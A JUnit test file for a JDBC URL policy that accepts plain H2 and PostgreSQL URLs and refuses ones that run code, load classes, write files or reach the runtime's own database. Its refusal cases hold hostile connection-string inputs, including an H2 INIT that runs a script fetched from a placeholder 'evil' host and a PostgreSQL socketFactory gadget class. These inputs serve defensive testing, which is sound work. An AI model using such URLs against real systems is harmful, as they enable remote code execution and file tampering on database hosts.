package io.webops.nodes.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which JDBC URLs a database credential may hold; each refusal says what to change. */
class JdbcUrlPolicyTest {

    private static final Path DATA = Path.of("/srv/webops/data");
    private static final JdbcUrlPolicy ON_H2 = new JdbcUrlPolicy(DATA, "jdbc:h2:file:/srv/webops/data/webops;AUTO_SERVER=FALSE");
    private static final JdbcUrlPolicy ON_PG = new JdbcUrlPolicy(DATA, "jdbc:postgresql://127.0.0.1:5432/webops?sslmode=disable");

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:sales", "jdbc:h2:mem:sales;DB_CLOSE_DELAY=-1;MODE=PostgreSQL", "jdbc:h2:tcp://db.example.com:9092/sales",
            "jdbc:h2:file:/srv/webops/data/databases/sales", "jdbc:h2:/srv/webops/data/databases/team/sales;LOCK_TIMEOUT=5000",
            "jdbc:postgresql://db.example.com:5432/sales", "jdbc:postgresql://db.example.com/sales?sslmode=require&connectTimeout=5",
            "jdbc:postgresql://127.0.0.1:5432/webops_test"})
    void acceptsPlainH2AndPostgresqlUrls(String url) {
        assertThat(ON_PG.problem(url)).isEmpty();
        assertThat(ON_H2.problem(url)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'|setting 'INIT' is not allowed",
            "jdbc:h2:mem:x;init=CREATE ALIAS X AS 'code'|setting 'INIT' is not allowed",
            "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4|setting 'TRACE_LEVEL_FILE' is not allowed",
            "jdbc:h2:mem:x;MODE=a\\;INIT=x|characters that are not allowed",
            "jdbc:h2:mem:../x|in-memory H2 database needs a name",
            "jdbc:h2:zip:/tmp/x.zip!/db|H2 supports mem:, tcp:// and files",
            "jdbc:h2:file:/etc/x|must be an absolute path inside /srv/webops/data/databases",
            "jdbc:h2:file:/srv/webops/data/databases/../webops|H2 supports mem:, tcp:// and files",
            "jdbc:h2:file:/srv/webops/data/webops|runtime's own database",
            "jdbc:h2:/srv/webops/data/webops|runtime's own database",
            "jdbc:h2:tcp://localhost/~/webops|runtime's own database",
            "jdbc:postgresql://db/sales?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext|parameter 'socketFactory' is not allowed",
            "jdbc:postgresql://db/sales?sslfactory=x|parameter 'sslfactory' is not allowed",
            "jdbc:postgresql://db/sales?sslhostnameverifier=x|parameter 'sslhostnameverifier' is not allowed",
            "jdbc:postgresql://db/sales?sslpasswordcallback=x|parameter 'sslpasswordcallback' is not allowed",
            "jdbc:postgresql://db/sales?authenticationPluginClassName=x|parameter 'authenticationPluginClassName' is not allowed",
            "jdbc:postgresql://db/sales?loggerFile=/tmp/x&loggerLevel=DEBUG|parameter 'loggerFile' is not allowed",
            "jdbc:postgresql://db/sales?password=x|user and password belong in the credential's fields",
            "jdbc:postgresql://db/sales?options=-c%20x|characters that are not allowed",
            "jdbc:mysql://db/sales|must start with jdbc:postgresql:// or jdbc:h2:",
            "jdbc:sqlite:/tmp/x|must start with jdbc:postgresql:// or jdbc:h2:"})
    void refusesUrlsThatRunCodeLoadClassesOrWriteFiles(String url, String message) {
        assertThat(ON_PG.problem(url)).hasValueSatisfying(p -> assertThat(p).contains(message));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:postgresql://127.0.0.1:5432/webops", "jdbc:postgresql://localhost/webops",
            "jdbc:postgresql://localhost:5432/webops?sslmode=require", "jdbc:postgresql://other:5433,127.0.0.1:5432/webops"})
    void refusesTheRuntimesOwnPostgresqlDatabaseInAnySpelling(String url) {
        assertThat(ON_PG.problem(url)).hasValueSatisfying(p -> assertThat(p).contains("runtime's own database"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:mem:webops-1", "jdbc:h2:mem:webops-1;DB_CLOSE_DELAY=-1"})
    void refusesTheRuntimesOwnInMemoryStore(String url) {
        JdbcUrlPolicy inMemory = new JdbcUrlPolicy(DATA, "jdbc:h2:mem:webops-1;DB_CLOSE_DELAY=-1;LOCK_TIMEOUT=10000");
        assertThat(inMemory.problem(url)).hasValueSatisfying(p -> assertThat(p).contains("runtime's own database"));
    }
}
